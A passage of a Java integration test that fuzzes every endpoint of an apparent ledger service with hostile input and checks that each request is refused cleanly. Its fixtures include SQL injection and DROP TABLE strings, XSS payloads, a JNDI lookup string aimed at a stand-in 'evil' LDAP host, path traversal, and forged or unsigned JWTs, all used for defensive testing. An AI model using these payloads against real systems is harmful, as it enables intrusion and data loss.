package io.collectionsledger.ledger.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.nimbusds.jwt.JWTClaimsSet;
import io.collectionsledger.contracts.shared.Headers;
import io.collectionsledger.contracts.shared.Money;
import io.collectionsledger.ledger.LedgerIT;
import io.collectionsledger.ledger.RawHttp;
import io.collectionsledger.ledger.Tokens;
import io.collectionsledger.ledger.security.Operations.Operation;
import io.collectionsledger.ledger.security.Operations.QueryParameter;
import io.collectionsledger.ledger.web.CommandRoutes;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collection;
import java.util.Collections;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What a careless or hostile client sends, to every operation the application serves (read from
 * its own handler mappings, so an operation added later is covered without being listed here):
 * malformed query parameters, headers, tokens, paths and methods, sent over a plain socket byte
 * for byte, and malformed bodies to every command and to the import. Each must be refused with a
 * problem document (application/problem+json, a stable type, a detail in plain words and no Java
 * in it) of the status it calls for, never a 5xx, and nothing may be recorded.
 */
class HostileInputIT extends LedgerIT {

    private static final String PROBLEM = "urn:collections-ledger:problem:";
    /** A detail a client can act on names no Java type, annotation or package. */
    private static final Pattern JAVA = Pattern.compile("java\\.|jakarta\\.|springframework|@[a-z]|Exception|Method parameter");
    private static final ObjectMapper JSON = new ObjectMapper();

    @Autowired
    private ApplicationContext context;

    // ---------------------------------------------------------------------------------------------
    // Query parameters, headers, tokens, paths and methods: every operation

    /** One hostile request and the status it must be refused with. */
    private record Variant(String name, String method, String target, Map<String, String> headers, String body, int status) {
    }

    @Test
    void everyOperationRefusesHostileParametersHeadersTokensPathsAndMethodsWithAProblemAndRecordsNothing() throws Exception {
        register();
        List<Operation> operations = Operations.of(context);
        assertThat(operations).hasSizeGreaterThan(50);
        List<String> wrong = Collections.synchronizedList(new ArrayList<>());
        AtomicInteger serverErrors = new AtomicInteger();
        AtomicInteger notProblems = new AtomicInteger();
        int sent = 0;
        for (Operation operation : operations) {
            List<Variant> variants = variants(operation, operations);
            if (variants.size() < 20) {
                wrong.add(operation + ": only " + variants.size() + " variants");
            }
            long events = eventCount();
            ExecutorService pool = Executors.newFixedThreadPool(8);
            try {
                for (Future<?> done : pool.invokeAll(variants.stream().<Callable<Object>>map(variant -> () -> {
                    RawHttp.Answer answer = RawHttp.send(port, variant.method() + " " + variant.target() + " HTTP/1.1",
                            variant.headers(), variant.body());
                    check(wrong, serverErrors, notProblems, operation + " " + variant.name(), answer, variant.status());
                    return null;
                }).toList())) {
                    done.get();
                }
            } finally {
                pool.shutdown();
            }
            if (eventCount() != events) {
                wrong.add(operation + ": a hostile request recorded an event");
            }
            sent += variants.size();
        }
        System.out.printf("hostile input, parameters, headers, tokens, paths and methods: %d operations, %d requests, "
                + "%d answered 5xx, %d answered other than application/problem+json%n", operations.size(), sent, serverErrors.get(), notProblems.get());
        assertThat(wrong).isEmpty();
        assertThat(serverErrors).hasValue(0);
        assertThat(notProblems).hasValue(0);
    }

    /** @param operations all of them: a path may take GET and POST, each another operation */
    private List<Variant> variants(Operation operation, List<Operation> operations) {
        String path = filled(operation.template());
        Map<String, String> query = new LinkedHashMap<>();
        operation.queryParameters().stream().filter(QueryParameter::required).forEach(parameter -> query.put(parameter.name(), valid(parameter)));
        Set<String> allowed = EndpointPolicy.rolesFor(operation.method(), operation.template());
        String role = allowed == null || allowed.isEmpty() ? "service" : allowed.stream().sorted().findFirst().orElseThrow();
        String body = bodyOf(operation);
        Function<Map<String, String>, Map<String, String>> headers = changes -> {
            Map<String, String> all = new LinkedHashMap<>();
            all.put(HttpHeaders.AUTHORIZATION, "Bearer " + Tokens.mint("hostile", role));
            if (body != null) {
                all.put(HttpHeaders.CONTENT_TYPE, MediaType.APPLICATION_JSON_VALUE);
            }
            if (operation.command() != null) {
                all.put(Headers.IDEMPOTENCY_KEY, UUID.randomUUID().toString());
            }
            changes.forEach((name, value) -> {
                if (value == null) {
                    all.remove(name);
                } else {
                    all.put(name, value);
                }
            });
            return all;
        };
        String target = path + queryString(query);
        List<Variant> variants = new ArrayList<>();

        // tokens: each is refused (401) whatever the operation, the public ones included
        tokens().forEach((name, token) -> variants.add(new Variant("token: " + name, operation.method(), target,
                headers.apply(Map.of(HttpHeaders.AUTHORIZATION, token)), body, 401)));
        if (allowed != null && !allowed.isEmpty()) {
            variants.add(new Variant("token: none", operation.method(), target, headers.apply(mapOf(HttpHeaders.AUTHORIZATION, null)), body, 401));
            variants.add(new Variant("token: basic credentials", operation.method(), target,
                    headers.apply(Map.of(HttpHeaders.AUTHORIZATION, "Basic YWRtaW46YWRtaW4=")), body, 401));
            EndpointPolicy.ANY_ROLE.stream().filter(other -> !allowed.contains(other)).sorted().findFirst().ifPresent(other ->
                    variants.add(new Variant("a role that may not call it: " + other, operation.method(), target,
                            headers.apply(Map.of(HttpHeaders.AUTHORIZATION, "Bearer " + Tokens.mint("hostile", other))), body, 403)));
        }

        // header fields over Tomcat's 8 KB: refused before anything reads them
        variants.add(new Variant("header: 9 KB of padding", operation.method(), target, headers.apply(Map.of("X-Padding", "p".repeat(9 * 1024))), body, 431));
        variants.add(new Variant("header: a 9 KB token", operation.method(), target,
                headers.apply(Map.of(HttpHeaders.AUTHORIZATION, "Bearer " + "e".repeat(9 * 1024))), body, 431));

        // paths that are not normalised, or that Tomcat cannot decode
        Map<String, String> paths = new LinkedHashMap<>();
        int second = path.indexOf('/', 1) < 0 ? path.length() : path.indexOf('/', 1);
        paths.put("a doubled slash", "/" + path);
        paths.put("a '/./' segment", path.substring(0, second) + "/." + path.substring(second));
        paths.put("a '/../' segment", path.substring(0, second) + "/x/.." + path.substring(second));
        paths.put("a ';' parameter", path.substring(0, second) + ";x=1" + path.substring(second));
        paths.put("an encoded '/'", path + "%2Fx");
        paths.put("an encoded NUL", path + "%00");
        paths.put("an encoded '\\'", path + "%5C");
        paths.put("an encoded '%'", path + "%25");
        paths.put("an encoded '..'", path.substring(0, second) + "/%2E%2E" + path.substring(second));
        paths.forEach((name, changed) -> variants.add(new Variant("path: " + name, operation.method(), changed + queryString(query),
                headers.apply(Map.of()), body, 400)));
        variants.add(new Variant("request line: a space in the path", operation.method(), path + " x" + queryString(query), headers.apply(Map.of()), body, 400));

        // methods the path does not take
        Set<String> taken = operations.stream().filter(served -> served.template().equals(operation.template()))
                .map(Operation::method).collect(Collectors.toSet());
        for (String method : Stream.of("GET", "POST", "PUT", "DELETE", "TRACE").filter(method -> !taken.contains(method)).toList()) {
            variants.add(new Variant("method: " + method, method, target, headers.apply(Map.of()), method.equals("POST") ? "{}" : null, 405));
        }

        if (operation.ours()) {
            // a parameter the operation does not read, and each of those it reads, malformed
            variants.add(new Variant("query: a parameter it does not read", operation.method(), path + queryString(with(query, "sneaky", "1")),
                    headers.apply(Map.of()), body, 400));
            variants.add(new Variant("query: a misspelt parameter", operation.method(), path + queryString(with(query, "customerid", "X-1")),
                    headers.apply(Map.of()), body, 400));
            for (QueryParameter parameter : operation.queryParameters()) {
                parameterValues(parameter).forEach((name, value) -> variants.add(new Variant("query: " + parameter.name() + " " + name,
                        operation.method(), path + queryString(with(query, parameter.name(), value)), headers.apply(Map.of()), body, 400)));
                if (!parameter.list()) {
                    String once = query.getOrDefault(parameter.name(), valid(parameter));
                    variants.add(new Variant("query: " + parameter.name() + " given twice", operation.method(),
                            path + queryString(with(query, parameter.name(), once)) + "&" + parameter.name() + "=" + once,
                            headers.apply(Map.of()), body, 400));
                }
            }
            variants.add(new Variant("header: Accept what it cannot give", operation.method(), target,
                    headers.apply(Map.of(HttpHeaders.ACCEPT, "image/png")), body, 406));
        }
        if (operation.takes("MinPosition")) {
            for (String position : List.of("abc", "-1", "99999999999999999999", "1e3", "%00")) {
                variants.add(new Variant("header: Ledger-Min-Position " + position, operation.method(), target,
                        headers.apply(Map.of(Headers.MIN_POSITION, position)), body, 400));
            }
        }
        if (operation.command() != null) {
            variants.add(new Variant("header: no Idempotency-Key", operation.method(), target, headers.apply(mapOf(Headers.IDEMPOTENCY_KEY, null)), body, 400));
            for (String key : List.of("k".repeat(129), "a key", "key/../x", "ключ")) {
                variants.add(new Variant("header: Idempotency-Key " + key, operation.method(), target,
                        headers.apply(Map.of(Headers.IDEMPOTENCY_KEY, key)), body, 400));
            }
            for (String version : List.of("abc", "3", "\"99999999999999999999\"", "\"-1\"")) {
                variants.add(new Variant("header: If-Match " + version, operation.method(), target,
                        headers.apply(Map.of(HttpHeaders.IF_MATCH, version)), body, 400));
            }
        }
        if (operation.ours() && operation.readsBody()) {
            for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
                variants.add(new Variant("header: Content-Type " + type, operation.method(), target,
                        headers.apply(Map.of(HttpHeaders.CONTENT_TYPE, type)), body, 415));
            }
        }
        return variants;
    }

    /** Tokens that must each be refused: forged, expired, unending, or naming their subject or roles in a way the ledger cannot keep. */
    private static Map<String, String> tokens() {
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("not a token", "Bearer not-a-token");
        tokens.put("empty", "Bearer ");
        tokens.put("signed with another key", "Bearer " + Tokens.signed(Tokens.claims("hostile", "service").build(),
                "another-secret-of-at-least-thirty-two-bytes!"));
        tokens.put("unsigned (alg none)", "Bearer " + unsigned(Tokens.claims("hostile", "service").build()));
        tokens.put("expired", "Bearer " + Tokens.signed(Tokens.claims("hostile", "service").issueTime(Date.from(Instant.now().minusSeconds(7200)))
                .expirationTime(Date.from(Instant.now().minusSeconds(3600))).build()));
        tokens.put("not valid yet", "Bearer " + Tokens.signed(Tokens.claims("hostile", "service")
                .notBeforeTime(Date.from(Instant.now().plusSeconds(3600))).build()));
        tokens.put("without exp", "Bearer " + Tokens.signed(Tokens.claims("hostile", "service").expirationTime(null).build()));
        tokens.put("exp as text", "Bearer " + Tokens.signed(Tokens.claims("hostile", "service").claim("exp", "soon").build()));
        tokens.put("without sub", "Bearer " + Tokens.signed(Tokens.claims(null, "service").build()));
        tokens.put("sub of 129 characters", "Bearer " + Tokens.mint("s".repeat(129), "service"));
        tokens.put("NUL in sub", "Bearer " + Tokens.mint("a\u0000b", "service"));
        tokens.put("a control character in sub", "Bearer " + Tokens.mint("a\u0007b", "service"));
        tokens.put("a right-to-left override in sub", "Bearer " + Tokens.mint("a\u202Eb", "service"));
        tokens.put("client_id of 200 characters", "Bearer " + Tokens.signed(Tokens.claims("hostile", "service")
                .claim("client_id", "c".repeat(200)).build()));
        tokens.put("roles as numbers", "Bearer " + Tokens.signed(Tokens.claims("hostile").claim("roles", List.of(1, 2)).build()));
        return tokens;
    }

    private static String unsigned(JWTClaimsSet claims) {
        Base64.Encoder base64 = Base64.getUrlEncoder().withoutPadding();
        return base64.encodeToString("{\"alg\":\"none\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + base64.encodeToString(claims.toString().getBytes(StandardCharsets.UTF_8)) + ".";
    }

    /** Values of a query parameter that must each be refused (percent-encoded as sent). */
    private static Map<String, String> parameterValues(QueryParameter parameter) {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("holding NUL", "X%00");
        values.put("holding a control character", "X%07");
        values.put("holding a right-to-left override", "X%E2%80%AE");
        values.put("holding bytes that are not UTF-8", "X%FF");
        values.put("holding a broken escape", "X%G1");
        values.put("of 201 characters", "A".repeat(201));
        Class<?> type = parameter.type();
        if (type == Integer.class || type == int.class || type == Long.class || type == long.class) {
            values.put("not a number", "abc");
            values.put("a fraction", "1.5");
            values.put("beyond a long", "99999999999999999999");
            values.put("in exponent form", "1e3");
        } else if (type == LocalDate.class) {
            values.put("month 13", "2026-13-01");
            values.put("30 February", "2026-02-30");
            values.put("basic format", "20261120");
        } else if (type == Instant.class) {
            values.put("hour 25", "2026-11-24T25:00:00Z");
            values.put("without a time", "2026-11-24");
            values.put("in words", "yesterday");
        }
        if (parameter.list() && (type == Integer.class || type == int.class)) {
            values.put("with an empty element", "30,,60");
            values.put("with a word in it", "30,abc");
        }
        return values;
    }

    /** A valid value of a parameter the operation requires. */
    private static String valid(QueryParameter parameter) {
        return switch (parameter.name()) {
            case "amount" -> "10.00";
            case "currency" -> "CNY";
            default -> parameter.type() == LocalDate.class ? "2026-11-01"
                    : parameter.type() == Instant.class ? START.toString()
                    : parameter.type() == String.class ? "X-1" : "1";
        };
    }

    /** A body the operation would take, so that nothing but the variant is wrong; a fresh customer for the ones that register one. */
    private String bodyOf(Operation operation) {
        if (operation.command() != null) {
            Set<String> fromPath = variables(operation.template());
            Map<String, Object> fields = fields(operation.command(), fromPath);
            if (fields.containsKey("customerId")) {
                fields.put("customerId", "\"C-" + UUID.randomUUID().toString().substring(0, 13) + "\"");
            }
            return json(fields, null, null);
        }
        if (operation.template().equals("/imports")) {
            return """
                    {"items": [{"commandId": "%s", "type": "RegisterCustomer", "command": {"customerId": "C-%s", "name": "Hostile Co.", "occurredOn": "2026-01-05"}}]}"""
                    .formatted(UUID.randomUUID(), UUID.randomUUID().toString().substring(0, 13));
        }
        return operation.readsBody() ? "{}" : null;
    }

    private void check(List<String> wrong, AtomicInteger serverErrors, AtomicInteger notProblems, String name, RawHttp.Answer answer,
                       int expected) {
        if (answer.status() >= 500) {
            serverErrors.incrementAndGet();
        }
        if (!MediaType.APPLICATION_PROBLEM_JSON_VALUE.equals(answer.header(HttpHeaders.CONTENT_TYPE))) {
            notProblems.incrementAndGet();
            wrong.add(name + ": " + answer);
            return;
        }
        String problem = problemIssue(answer.body(), answer.status());
        if (answer.status() != expected || problem != null) {
            wrong.add("%s: %s, expected %d%s".formatted(name, answer, expected, problem == null ? "" : " (" + problem + ")"));
        }
    }

    /** What is wrong with a problem document, or null. */
    private static String problemIssue(String body, int status) {
        try {
            JsonNode problem = JSON.readTree(body);
            if (!problem.path("type").asText().startsWith(PROBLEM) || problem.path("status").asInt() != status) {
                return "not a problem of the ledger's, or of another status";
            }
            String detail = problem.path("detail").asText();
            if (detail.isBlank() || JAVA.matcher(detail).find()) {
                return "a detail a client cannot act on";
            }
            return null;
        } catch (Exception e) {
            return "not JSON";
        }
    }

    // ---------------------------------------------------------------------------------------------
    // Bodies: every command, alone and in an import

    /** What goes into a field, by the field's kind; each must be refused. */
    private enum Kind { AMOUNT, MONEY, DATE, ENUM, ID, ANY }

    private record Hostile(String category, Kind kind, String json, String type) {

        Hostile(String category, Kind kind, String json) {
            this(category, kind, json, "invalid-command");
        }
    }

    private static final String BIG = "\"" + "A".repeat(5 * 1024 * 1024) + "\"";
    private static final String MANY = "[" + "1,".repeat(99_999) + "1]";

    private static final List<Hostile> VALUES = List.of(
            new Hostile("wrong type: number", Kind.ANY, "123"),
            new Hostile("wrong type: boolean", Kind.ANY, "true"),
            new Hostile("wrong type: object", Kind.ID, "{\"a\": 1}"),
            new Hostile("wrong type: array", Kind.DATE, "[\"2026-11-20\"]"),
            new Hostile("wrong type: money as text", Kind.MONEY, "\"lots\""),
            new Hostile("null", Kind.ANY, "null"),
            new Hostile("huge: 1e400", Kind.MONEY, "{\"amount\": 1e400, \"currency\": \"CNY\"}"),
            new Hostile("huge: 1e400 as text", Kind.MONEY, "{\"amount\": \"1e400\", \"currency\": \"CNY\"}"),
            new Hostile("huge: 30 digits", Kind.MONEY, "{\"amount\": \"123456789012345678901234567890.00\", \"currency\": \"CNY\"}"),
            new Hostile("huge: -1e400", Kind.MONEY, "{\"amount\": -1e400, \"currency\": \"CNY\"}"),
            new Hostile("huge: NaN", Kind.MONEY, "{\"amount\": \"NaN\", \"currency\": \"CNY\"}"),
            new Hostile("exact: a number with more decimals than the currency", Kind.MONEY, "{\"amount\": 100.000000000000001, \"currency\": \"CNY\"}"),
            new Hostile("exact: 99999999999999.999 as a number", Kind.MONEY, "{\"amount\": 99999999999999.999, \"currency\": \"CNY\"}"),
            new Hostile("exact: 1e-400 as a number", Kind.MONEY, "{\"amount\": 1e-400, \"currency\": \"CNY\"}"),
            new Hostile("exact: 1e-400 as text", Kind.MONEY, "{\"amount\": \"1e-400\", \"currency\": \"CNY\"}"),
            new Hostile("exact: an exponent of a billion", Kind.MONEY, "{\"amount\": 1E-999999999, \"currency\": \"CNY\"}"),
            new Hostile("exact: an exponent that overflows, as a number", Kind.MONEY, "{\"amount\": 1e-2147483649, \"currency\": \"CNY\"}", "malformed-json"),
            new Hostile("exact: an exponent that overflows, as text", Kind.MONEY, "{\"amount\": \"1e-2147483649\", \"currency\": \"CNY\"}"),
            new Hostile("exact: decimals on yen, as a number", Kind.MONEY, "{\"amount\": 1.5, \"currency\": \"JPY\"}"),
            new Hostile("duplicate key: the currency given twice", Kind.MONEY, "{\"amount\": \"1.00\", \"currency\": \"CNY\", \"currency\": \"USD\"}", "malformed-json"),
            new Hostile("negative amount", Kind.AMOUNT, "{\"amount\": \"-5.00\", \"currency\": \"CNY\"}"),
            new Hostile("zero amount", Kind.AMOUNT, "{\"amount\": \"0.00\", \"currency\": \"CNY\"}"),
            new Hostile("negative zero", Kind.AMOUNT, "{\"amount\": \"-0.00\", \"currency\": \"CNY\"}"),
            new Hostile("zero with an exponent of a billion", Kind.AMOUNT, "{\"amount\": 0E-999999999, \"currency\": \"CNY\"}"),
            new Hostile("too many decimals", Kind.MONEY, "{\"amount\": \"1.001\", \"currency\": \"CNY\"}"),
            new Hostile("decimals on yen", Kind.MONEY, "{\"amount\": \"1.5\", \"currency\": \"JPY\"}"),
            new Hostile("tiny fraction", Kind.MONEY, "{\"amount\": \"0.0000000001\", \"currency\": \"CNY\"}"),
            new Hostile("unknown currency", Kind.MONEY, "{\"amount\": \"1.00\", \"currency\": \"XYZ\"}"),
            new Hostile("unknown enum value", Kind.ENUM, "\"BITCOIN\""),
            new Hostile("enum in lower case", Kind.ENUM, "\"x\""),
            new Hostile("empty enum", Kind.ENUM, "\"\""),
            new Hostile("enum ordinal", Kind.ENUM, "0"),
            new Hostile("unicode: zero-width space", Kind.ID, "\"X\u200B-1\""),
            new Hostile("unicode: right-to-left override", Kind.ID, "\"X\u202E-1\""),
            new Hostile("unicode: NUL", Kind.ID, "\"X\\u0000-1\""),
            new Hostile("unicode: lone surrogate", Kind.ID, "\"X\\uD800-1\""),
            new Hostile("unicode: homoglyph (Cyrillic)", Kind.ID, "\"\u0425-1\""),
            new Hostile("unicode: byte-order mark", Kind.ID, "\"\uFEFFX-1\""),
            new Hostile("unicode: hidden characters in an enum", Kind.ENUM, "\"\u200B\""),
            new Hostile("oversized: 5 MB string", Kind.ID, BIG),
            new Hostile("oversized: 100k-element array", Kind.ANY, MANY),
            new Hostile("sql in an id", Kind.ID, "\"X' OR '1'='1\""),
            new Hostile("sql drop in an id", Kind.ID, "\"1; DROP TABLE domain_event_entry; --\""),
            new Hostile("script in an id", Kind.ID, "\"<script>alert(1)</script>\""),
            new Hostile("lookup injection in an id", Kind.ID, "\"${jndi:ldap://evil/x}\""),
            new Hostile("path in an id", Kind.ID, "\"../../etc/passwd\""),
            new Hostile("sql in an enum", Kind.ENUM, "\"BANK_TRANSFER' --\""),
            new Hostile("sql in a date", Kind.DATE, "\"2026-11-20'; DROP TABLE command_log; --\""),
            new Hostile("script in a date", Kind.DATE, "\"<img src=x onerror=alert(1)>\""),
            new Hostile("impossible date: 30 February", Kind.DATE, "\"2026-02-30\""),
            new Hostile("impossible date: year 99999", Kind.DATE, "\"+99999-01-01\""),
            new Hostile("impossible date: 99999 unsigned", Kind.DATE, "\"99999-01-01\""),
            new Hostile("impossible date: month 13", Kind.DATE, "\"2026-13-01\""),
            new Hostile("impossible date: zeros", Kind.DATE, "\"0000-00-00\""),
            new Hostile("impossible date: basic format", Kind.DATE, "\"20261120\""),
            new Hostile("impossible date: a number", Kind.DATE, "20261120"));

    /** Whole bodies that are not JSON at all, or not one JSON object. */
    private static final Map<String, String> MALFORMED = new LinkedHashMap<>();

    static {
        MALFORMED.put("truncated", "{\"a\": ");
        MALFORMED.put("single quotes", "{'a': 1}");
        MALFORMED.put("raw NUL", "{\"a\": \"\u0000\"}");
        MALFORMED.put("deeply nested", "{\"a\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}");
        MALFORMED.put("comment", "/* x */ {}");
    }

    /** Bodies that are JSON but not a command at all. */
    private static final Map<String, String> NOT_A_COMMAND = Map.of(
            "empty body", " ",
            "1e400 as the body", "1e400",
            "a string as the body", "\"' OR 1=1 --\"");

    private static final Pattern VARIABLE = Pattern.compile("\\{([^}]+)}");

    @Test
    void everyCommandRefusesHostileBodiesWithAProblemAndRecordsNothing() throws Exception {
        register();
        command("/customers/{c}/invoices", """
                {"invoiceId": "INV-1", "occurredOn": "2026-11-01", "amount": {"amount": "300.00", "currency": "CNY"},
                 "terms": [{"termId": "T1", "amount": {"amount": "300.00", "currency": "CNY"}, "dueDate": "2026-12-01"}]}""");
        List<Operation> commands = Operations.of(context).stream().filter(operation -> operation.command() != null).toList();
        assertThat(commands).hasSizeGreaterThan(25);
        List<String> wrong = Collections.synchronizedList(new ArrayList<>());
        int sent = 0;
        for (Operation operation : commands) {
            String path = pathOf(operation.template());
            Map<String, Object> template = fields(operation.command(), variables(operation.template()));
            List<Case> cases = new ArrayList<>();
            for (Hostile hostile : VALUES) {
                String field = fieldFor(operation.command(), template, hostile.kind());
                if (field != null) {
                    cases.add(new Case(operation + " " + hostile.category() + " in " + field, path, json(template, field, hostile.json()), hostile.type()));
                }
            }
            MALFORMED.forEach((name, body) -> cases.add(new Case(operation + " " + name, path, body, "malformed-json")));
            NOT_A_COMMAND.forEach((name, body) -> cases.add(new Case(operation + " " + name, path, body, "invalid-command")));
            cases.add(new Case(operation + " unknown field", path, json(template, "sneaky'--", "1"), "invalid-command"));
            cases.add(new Case(operation + " a second command after the first", path, json(template, null, null) + " {\"x\": 1}", "invalid-command"));
            String first = template.keySet().iterator().next();
            cases.add(new Case(operation + " duplicate key: " + first + " given twice", path,
                    json(template, null, null).replaceFirst("}$", ", \"" + first + "\": " + template.get(first) + "}"), "malformed-json"));
            sendAll(wrong, cases);
            sent += cases.size();
        }
        System.out.printf("hostile input, command bodies: %d commands, %d bodies%n", commands.size(), sent);
        assertThat(sent).isGreaterThanOrEqualTo(1000);
        assertThat(wrong).isEmpty();
    }

    @Test
    void anImportRefusesEachHostileItemWithItsOwnProblemAndAHostileBatchWithOneAndRecordsNothing() throws Exception {
        register();
        List<String> wrong = Collections.synchronizedList(new ArrayList<>());
        long events = eventCount();
        int items = 0;
        for (Operation operation : Operations.of(context)) {
            if (operation.command() == null || !importable(operation.command())) {
                continue;
            }
            Map<String, Object> template = fields(operation.command(), Set.of());
            template.put("customerId", "\"" + customer + "\"");
            List<String> batch = new ArrayList<>();
            List<String> expected = new ArrayList<>();
            for (Hostile hostile : VALUES) {
                String field = fieldFor(operation.command(), template, hostile.kind());
                if (field != null && !hostile.type().equals("malformed-json") && !hostile.json().equals(BIG)) {
                    batch.add("{\"commandId\": \"%s\", \"type\": \"%s\", \"command\": %s}".formatted(UUID.randomUUID(),
                            operation.command().getSimpleName(), json(template, field, hostile.json())));
                    expected.add(hostile.category() + " in " + field + ": " + hostile.type());
                }
            }
            ResponseEntity<JsonNode> answer = command("/imports", "{\"items\": [" + String.join(", ", batch) + "]}");
            JsonNode results = answer.getBody() == null ? null : answer.getBody().get("results");
            if (answer.getStatusCode().value() != 200 || results == null || results.size() != batch.size()) {
                wrong.add(operation.command().getSimpleName() + " imported: " + answer.getStatusCode() + " " + answer.getBody());
                continue;
            }
            for (int i = 0; i < batch.size(); i++) {
                String type = expected.get(i).substring(expected.get(i).lastIndexOf(": ") + 2);
                if (!(PROBLEM + type).equals(results.get(i).path("problem").path("type").asText())) {
                    wrong.add(operation.command().getSimpleName() + " imported, " + expected.get(i) + ": " + results.get(i));
                }
            }
            items += batch.size();
        }
        Map<String, String> batches = new LinkedHashMap<>(MALFORMED);
        batches.putAll(NOT_A_COMMAND);
        batches.put("a null item", "{\"items\": [null]}");
        batches.put("items null", "{\"items\": null}");
        batches.put("items an object", "{\"items\": {}}");
        batches.put("no items", "{\"items\": []}");
        batches.put("a number as an item", "{\"items\": [1]}");
        batches.put("a field that is not the batch's", "{\"items\": [], \"sneaky\": 1}");
        batches.put("items given twice", "{\"items\": [], \"items\": []}");
        batches.put("an exponent that overflows in an item", "{\"items\": [{\"commandId\": \"x\", \"type\": \"RecordPayment\", \"command\": "
                + "{\"amount\": {\"amount\": 1e-2147483649, \"currency\": \"CNY\"}}}]}");
        batches.put("10,001 items", "{\"items\": [" + String.join(",", Collections.nCopies(10_001, "{}")) + "]}");
        List<Case> cases = new ArrayList<>();
        batches.forEach((name, body) -> cases.add(new Case("import: " + name, "/imports", body, null)));
        sendAll(wrong, cases);
        System.out.printf("hostile input, imports: %d hostile items, %d hostile batches%n", items, cases.size());
        assertThat(items).isGreaterThan(200);
        assertThat(eventCount()).isEqualTo(events);
        assertThat(wrong).isEmpty();
    }

    private static boolean importable(Class<?> command) {
        return CommandRoutes.ALL.stream().anyMatch(route -> route.importable() && route.command() == command);
    }

    /** One hostile request and the problem type it must get; null for any type of the ledger's. */
    private record Case(String name, String path, String body, String type) {
    }

    /**
     * The cases of one endpoint, several at once to keep the test short; the event count never goes
     * down, so unchanged across the batch means unchanged after each case.
     */
    private void sendAll(List<String> wrong, List<Case> cases) throws Exception {
        long events = eventCount();
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            for (Future<?> done : pool.invokeAll(cases.stream().<Callable<Object>>map(c -> () -> {
                send(wrong, c);
                return null;
            }).toList())) {
                done.get();
            }
        } finally {
            pool.shutdown();
        }
        if (eventCount() != events) {
            wrong.add(cases.get(0).path() + ": a hostile request recorded an event");
        }
    }

    private void send(List<String> wrong, Case c) {
        ResponseEntity<JsonNode> answer = command(c.path(), c.body());
        JsonNode body = answer.getBody();
        String problem = body != null && body.has("type") ? body.get("type").asText() : null;
        String detail = body != null && body.has("detail") ? body.get("detail").asText() : "";
        if (answer.getStatusCode().is5xxServerError() || !MediaType.APPLICATION_PROBLEM_JSON.equals(answer.getHeaders().getContentType())
                || problem == null || !problem.startsWith(PROBLEM) || c.type() != null && !(PROBLEM + c.type()).equals(problem)
                || detail.isBlank() || JAVA.matcher(detail).find()) {
            wrong.add("%s: %d %s, expected %s".formatted(c.name(), answer.getStatusCode().value(), abbreviated(body), c.type()));
        }
    }

    private static String abbreviated(JsonNode body) {
        String text = String.valueOf(body);
        return text.length() > 400 ? text.substring(0, 400) + "..." : text;
    }

    // ---------------------------------------------------------------------------------------------
    // Paths and bodies made from the commands' records

    /** The operation's path with its variables filled: this test's customer, X-1 for any other id. */
    private String filled(String template) {
        return template.replace("{customerId}", customer).replaceAll("\\{[^}]+}", "X-1").replace("**", "x");
    }

    private String pathOf(String template) {
        Matcher variable = VARIABLE.matcher(template);
        StringBuilder path = new StringBuilder();
        while (variable.find()) {
            variable.appendReplacement(path, variable.group(1).equals("customerId") ? "{c}" : "X-1");
        }
        return variable.appendTail(path).toString();
    }

    private static Set<String> variables(String template) {
        return VARIABLE.matcher(template).results().map(m -> m.group(1)).collect(Collectors.toSet());
    }

    /** A valid-looking value for every component of the command, except those the path gives. */
    private Map<String, Object> fields(Class<?> type, Set<String> fromPath) {
        Map<String, Object> fields = new LinkedHashMap<>();
        for (RecordComponent component : type.getRecordComponents()) {
            if (!fromPath.contains(component.getName())) {
                fields.put(component.getName(), value(component.getName(), component.getGenericType()));
            }
        }
        if (fields.containsKey("customerId")) {
            fields.put("customerId", "\"" + customer + "\"");
        }
        return fields;
    }

    private Object value(String name, Type type) {
        if (type instanceof ParameterizedType list && Collection.class.isAssignableFrom((Class<?>) list.getRawType())) {
            return "[" + value(name, list.getActualTypeArguments()[0]) + "]";
        }
        Class<?> raw = type instanceof ParameterizedType p ? (Class<?>) p.getRawType() : (Class<?>) type;
        if (raw == Money.class) {
            return "{\"amount\": \"10.00\", \"currency\": \"CNY\"}";
        }
        if (raw == LocalDate.class) {
            return "\"2026-11-20\"";
        }
        if (raw == BigDecimal.class || Number.class.isAssignableFrom(raw) || raw.isPrimitive() && raw != boolean.class) {
            return "1";
        }
        if (raw == boolean.class || raw == Boolean.class) {
            return "false";
        }
        if (raw.isEnum()) {
            return "\"" + ((Enum<?>) raw.getEnumConstants()[0]).name() + "\"";
        }
        if (raw.isRecord()) {
            return json(fields(raw, Set.of()), null, null);
        }
        return "\"" + (name.equals("invoiceId") ? "INV-1" : "X-1") + "\"";
    }

    /** The first component of the kind the hostile value is meant for; none if the command has no such field. */
    private static String fieldFor(Class<?> type, Map<String, Object> template, Kind kind) {
        for (RecordComponent component : type.getRecordComponents()) {
            Class<?> raw = component.getType();
            boolean fits = switch (kind) {
                // "amount" is what must be positive; a credit limit or a confirmed balance may be zero
                case AMOUNT -> raw == Money.class && component.getName().equals("amount");
                case MONEY -> raw == Money.class;
                case DATE -> raw == LocalDate.class;
                case ENUM -> raw.isEnum();
                case ID -> raw == String.class && component.getName().endsWith("Id");
                case ANY -> true;
